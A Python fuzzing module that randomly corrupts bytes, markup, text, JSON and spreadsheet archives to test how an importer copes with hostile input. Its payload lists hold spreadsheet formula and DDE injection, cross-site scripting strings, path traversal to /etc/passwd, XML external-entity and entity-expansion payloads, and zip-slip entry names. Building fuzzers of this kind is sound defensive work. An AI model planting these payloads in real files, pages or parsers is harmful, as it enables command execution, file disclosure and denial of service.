"""Foreign data spoilt at random, by a seed: bytes, markup, JSON and archives, each by its own structure."""

import copy
import io
import json
import re
import warnings
import zipfile
from random import Random
from typing import Any

NASTY = (
    "",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?"&A1)',
    "+1+1",
    "@SUM(1)",
    "-2+3",
    "<b>đậm</b><img src='file:///etc/passwd'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&xxe;",
    "\u202egnp.exe",
    "\x00\x01\x1b[31m",
    "\ud800",
    "\ufffe\uffff",
    "a\u0301" * 500,
    "ư" * 40_000,
    "x" * 200_000,
    "\n" * 3_000,
    "1 " * 20_000,
    "I. " * 2_000,
    "../../../../etc/passwd",
    "\\\\server\\share\\a.exe",
    "file:///c:/windows/system32/calc.exe",
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "1048576",
    "-1",
    "9" * 400,
    "1e999",
    "NaN",
    "A1:XFD1048576",
    "2147483648",
    "18446744073709551616",
)
_ODD_VALUES: tuple[Any, ...] = (
    *(None, True, False, 0, -1, 3.5, 2**31, 2**63, 10**30, 1e308, float("nan"), float("inf"), [], {}, [[]]),
    *([[], [], []], {"text": "x"}, "2026-02-30", "0000-00-00", "9999-12-31T23:59:59+99:99", *NASTY),
)
_MOST_JSON = 20_000_000
_TAG = re.compile(r"<[^<>]{0,300}>")
_ATTRIBUTE = re.compile(r'="([^"<>]*)"')
_WORD = re.compile(r"[^\s<>&\"]{2,}")
_TAGS = (
    "<table><tr><td>",
    "</table>",
    "<tr>",
    "</tr>",
    "</td>",
    "<td rowspan=65000 colspan=65000>",
    '<td colspan="0" rowspan="0">',
    "<script>alert(1)</script>",
    "<style>",
    "<!--",
    "-->",
    "<![if !supportLists]>",
    "<![CDATA[",
    "<img src='file:///etc/passwd' onerror='x'>",
    "<iframe src='http://example.invalid/'>",
    "<link rel=stylesheet href='http://example.invalid/a.css'>",
    "<meta http-equiv=refresh content='0;url=http://example.invalid/'>",
    "<object data='a.exe'>",
    "<svg onload=alert(1)>",
    "<textarea>",
    "<xmp>",
    "<ol start=99999999999><li>",
    "<ul><li>",
    "<p style='mso-list:l0 level9 lfo1'>",
    "<font face='.VnTime'>",
    "<h1>",
    "<pre>",
    "<a href='javascript:alert(1)'>",
    "<!DOCTYPE x [<!ENTITY a 'b'>]>",
    "<",
    ">",
    "&#0;&#xD800;&#x110000;&#99999999999;",
    "&" * 2_000,
)


def spoilt_bytes(rng: Random, data: bytes) -> bytes:
    """Return the bytes flipped, cut, doubled, moved or grown, one to a dozen times."""
    out = bytearray(data)
    for _ in range(rng.choice((1, 1, 2, 3, 12))):
        if not out:
            break
        at = rng.randrange(len(out))
        end = min(len(out), at + rng.choice((1, 4, 64, 1024)))
        match rng.randrange(7):
            case 0:
                out[at] ^= 1 << rng.randrange(8)
            case 1:
                del out[at:]
            case 2:
                out[at:at] = out[at:end] * rng.choice((1, 2, 50))
            case 3:
                del out[at:end]
            case 4:
                out[at:end] = rng.randbytes(end - at)
            case 5:
                out[at:at] = rng.choice((b"\0", b"\xff\xfe", b"\xef\xbb\xbf", b"\r", b"\x1a", b"\xc3")) * 3
            case _:
                out[at:end] = b"\0" * (end - at)
    return bytes(out)


def spoilt_markup(rng: Random, text: str) -> str:
    """Return markup with tags and attributes taken out, put in, doubled, nested deep or made huge."""
    for _ in range(rng.choice((1, 2, 3, 8))):
        match rng.randrange(7):
            case 0:
                text = _replaced(rng, text, _ATTRIBUTE, lambda: f'="{rng.choice(NASTY)}"')
            case 1:
                text = _replaced(rng, text, _TAG, lambda: rng.choice(("", *_TAGS)))
            case 2:
                tag = rng.choice(_TAGS)
                text = _inserted(rng, text, tag * rng.choice((1, 1, 3, 50, 3_000)))
            case 3:
                text = _replaced(rng, text, _WORD, lambda: rng.choice(NASTY))
            case 4:
                low = rng.randrange(len(text) + 1)
                high = min(len(text), low + rng.choice((20, 400, 5_000)))
                text = _inserted(rng, text, text[low:high] * rng.choice((1, 2, 20)))
            case 5:
                low = rng.randrange(len(text) + 1)
                text = text[:low] + text[low + rng.choice((1, 20, 400)) :]
            case _:
                text = _inserted(rng, text, rng.choice(NASTY))
    return text[:2_000_000]


def spoilt_text(rng: Random, text: str) -> str:
    """Return a text with lines doubled, joined, moved and marks put where none belong."""
    lines = text.split("\n")
    for _ in range(rng.choice((1, 2, 5, 20))):
        at = rng.randrange(len(lines))
        match rng.randrange(6):
            case 0:
                lines[at] = rng.choice(NASTY)
            case 1:
                lines[at:at] = lines[at : at + rng.randrange(1, 20)] * rng.choice((1, 2, 60))
            case 2:
                lines[at] = rng.choice(("I. ", "1. ", "a) ", "- ", "1.1.1. ", "\t", "   ", "|")) + lines[at]
            case 3:
                del lines[at : at + rng.randrange(1, 5)]
                lines = lines or [""]
            case 4:
                lines[at : at + 3] = ["".join(lines[at : at + 3])]
            case _:
                lines.insert(at, lines.pop(rng.randrange(len(lines))))
    return "\n".join(lines[:50_000])[:2_000_000]


def spoilt_json(rng: Random, text: str) -> bytes:
    """Return JSON with odd values, keys gone, new or double, and depth; or spoilt as bytes."""
    if rng.random() < 0.25:
        return spoilt_bytes(rng, text.encode("utf-8"))
    top = json.loads(text)
    for _ in range(rng.choice((1, 1, 2, 4))):
        places = list(_places(top))
        holder, key = rng.choice(places)
        match rng.randrange(6):
            case 0 | 1:
                holder[key] = rng.choice(_ODD_VALUES)
            case 2:
                del holder[key]
                if not list(_places(top)):
                    break
            case 3 if isinstance(holder, list):
                holder[key:key] = [holder[key]] * rng.choice((1, 3, 400))
            case 4 if isinstance(holder, dict):
                holder[rng.choice(("lạ", "__class__", "id", "", "x" * 5_000))] = holder[key]
            case _:
                other, name = rng.choice(places)
                holder[key] = copy.deepcopy(other[name]) if name in other or isinstance(other, list) else None
    made = json.dumps(top, ensure_ascii=rng.random() < 0.5)[:_MOST_JSON]
    if rng.random() < 0.1:
        made = _replaced(rng, made, re.compile(r'"[a-z]+": '), lambda: '"year": 1, "year": ')
    if rng.random() < 0.05:
        made = made.replace("[", "[" * rng.choice((2, 500, 90_000)), 1)
    return made.encode("utf-8", "surrogatepass")


def spoilt_book(rng: Random, data: bytes) -> bytes:
    """Return a workbook whose parts, list of parts or bytes are spoilt."""
    if rng.random() < 0.25:
        return spoilt_bytes(rng, data)
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        parts = [(info.filename, book.read(info)) for info in book.infolist()]
    for _ in range(rng.choice((1, 1, 2, 3))):
        at = rng.randrange(len(parts))
        if rng.random() < 0.5:  # the parts that say something
            at = rng.choice(
                [n for n, (name, _) in enumerate(parts) if "sheet" in name or "String" in name] or [at]
            )
        name, content = parts[at]
        match rng.randrange(8):
            case 0:
                del parts[at]
            case 1:
                parts.append(
                    (rng.choice((name, "../../" + name, "/etc/passwd", "xl/vbaProject.bin")), content)
                )
            case 2:
                parts[at] = (name, spoilt_bytes(rng, content))
            case 3:
                parts[at] = (
                    name,
                    rng.choice(
                        (b"", b"\0" * 5_000_000, b"<a>" * 100_000, b"<a><b>" * 300_000, _ENTITIES + content)
                    ),
                )
            case _:
                parts[at] = (
                    name,
                    spoilt_sheet(rng, content.decode("utf-8", "replace")).encode("utf-8", "replace"),
                )
        if not parts:
            break
    out = io.BytesIO()
    method = rng.choice((zipfile.ZIP_DEFLATED, zipfile.ZIP_DEFLATED, zipfile.ZIP_STORED, zipfile.ZIP_BZIP2))
    with warnings.catch_warnings(), zipfile.ZipFile(out, "w", method) as book:
        warnings.simplefilter("ignore")  # a name may stand there twice
        for name, content in parts:
            book.writestr(name, content)
    made = out.getvalue()
    return spoilt_bytes(rng, made) if rng.random() < 0.05 else made


_ENTITIES = (
    b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
    b'<!ENTITY x SYSTEM "file:///etc/passwd">]>'
)
_CELLS = (
    '<c r="A1" t="s"><v>99999999</v></c>',
    '<c r="XFD1048576"><v>1</v></c>',
    '<c t="s"><v>-1</v></c>',
    '<c r="B2" t="inlineStr"><is><t>=1+1</t></is></c>',
    "<c r=\"B2\"><f>cmd|'/C calc'!A0</f><v>5</v></c>",
    '<c r="C3" t="str"><f>HYPERLINK("http://example.invalid")</f></c>',
    '<c r="D4" t="d"><v>9999-99-99</v></c>',
    '<c r="D4" s="99999"><v>1e400</v></c>',
    '<c r="D4" t="e"><v>#REF!</v></c>',
    '<c r="D5" s="1"><v>-99999999</v></c>',
)
_SHEET_PIECES = (
    *_CELLS,
    "".join(_CELLS) * 300,
    '<row r="1048576"><c r="A1048576"><v>1</v></c></row>',
    '<row r="-5">',
    '<row r="0" hidden="1">' + _CELLS[1] + "</row>",
    "<row>" * 2_000,
    '<mergeCell ref="A1:XFD1048576"/>',
    '<mergeCell ref="B9:A1"/>' * 500,
    '<externalReference r:id="rId1"/>',
    '<Relationship Id="rId1" Type="x/externalLink" Target="file:///etc/passwd" TargetMode="External"/>',
    '<si><t xml:space="preserve">' + "bom " * 20_000 + "</t></si>",
    "<si><r><t>a</t></r>" * 100,
    '<drawing r:id="rId9"/><legacyDrawing r:id="rId8"/>',
    '<sheet name="x" sheetId="7" r:id="rId1" state="veryHidden"/>',
    '<xf numFmtId="99999" fontId="99999"/>',
    '<dimension ref="A1:XFD1048576"/>',
)


def spoilt_sheet(rng: Random, text: str) -> str:
    """Return a part of a workbook with cells, rows, merges and numbers that cannot be."""
    for _ in range(rng.choice((1, 2, 4, 10))):
        match rng.randrange(4):
            case 0:
                piece = rng.choice(_SHEET_PIECES)
                marks = [m.start() for m in re.finditer(r"<(?:row|c|si|mergeCell|sheet|xf|/)", text)] or [0]
                at = rng.choice(marks)
                text = text[:at] + piece + text[at:]
            case 1:
                text = _replaced(rng, text, _ATTRIBUTE, lambda: f'="{rng.choice(NASTY)}"')
            case 2:
                text = _replaced(rng, text, re.compile(r">[^<>]+<"), lambda: f">{rng.choice(NASTY)}<")
            case _:
                return spoilt_markup(rng, text)
    return text


def _places(value: Any) -> Any:
    """Yield (holder, key) of every value inside."""
    waiting = [value]
    while waiting:
        holder = waiting.pop()
        keys = list(holder) if isinstance(holder, dict) else range(len(holder))
        for key in keys:
            yield holder, key
            if isinstance(holder[key], dict | list):
                waiting.append(holder[key])


def _replaced(rng: Random, text: str, what: "re.Pattern[str]", by: Any) -> str:
    found = [match.span() for match in what.finditer(text)]
    if not found:
        return text
    low, high = rng.choice(found)
    return text[:low] + by() + text[high:]


def _inserted(rng: Random, text: str, piece: str) -> str:
    at = rng.randrange(len(text) + 1)
    return text[:at] + piece + text[at:]
